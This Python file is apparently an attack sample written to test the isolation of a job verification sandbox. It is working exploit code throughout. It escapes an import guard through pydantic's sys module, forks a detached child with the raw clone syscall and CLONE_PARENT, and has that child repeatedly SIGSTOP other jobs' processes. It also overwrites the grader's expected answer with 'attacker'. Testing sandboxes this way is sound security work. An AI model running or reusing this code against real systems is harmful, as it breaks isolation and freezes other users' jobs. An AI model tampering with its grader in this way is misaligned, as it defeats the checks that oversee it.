# cross-job attack: escape the guard (pydantic.main's sys), then clone with
# CLONE_PARENT from the class body. The template process is left without a
# child (so the template is accepted), and the clone, a child of the spawner,
# SIGSTOPs every other process the spawner starts: other jobs' template
# processes. What the attempt gave is reported in this job's own results.
from pydantic import main
from verifleet.templates import BaseAnswer

_os = main.sys.modules["os"]
_io = main.sys.modules["io"]
_ctypes = main.sys.modules["importlib"].import_module("ctypes")
_libc = _ctypes.CDLL(None, use_errno=True)
_SYS_CLONE = 56  # x86_64
_CLONE_PARENT = 0x00008000
_SIGCHLD = 17


def _others(own_group, spawner):
    # Processes the spawner started, not of this job's group. Without /proc
    # (strict mode: a pid namespace of the executor's own) every pid above
    # the spawner's is one.
    if _os.path.isdir("/proc/self"):
        for name in _os.listdir("/proc"):
            if name.isdigit():
                try:
                    stat = _io.open("/proc/" + name + "/stat").read()
                except Exception:
                    continue
                if int(stat.rsplit(")", 1)[1].split()[1]) == spawner:
                    yield int(name)
    else:
        yield from range(spawner + 1, spawner + 300)


_pid = _libc.syscall(_SYS_CLONE, _CLONE_PARENT | _SIGCHLD, 0, 0, 0, 0)
if _pid == 0:
    _me, _group, _spawner = _os.getpid(), _os.getpgrp(), _os.getppid()
    while _os.getppid() == _spawner:  # ends once its executor is gone
        for _victim in _others(_group, _spawner):
            try:
                if _victim != _me and _os.getpgid(_victim) != _group:
                    _os.kill(_victim, 19)  # SIGSTOP
            except Exception:
                pass
        main.sys.modules["time"].sleep(0.02)
    _os.kill(_os.getpid(), 9)
CLONE_RESULT = "clone=" + (str(_pid) if _pid >= 0 else "refused errno %d" % _ctypes.get_errno())


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        raise ValueError("ATTACK[" + CLONE_RESULT + "]")
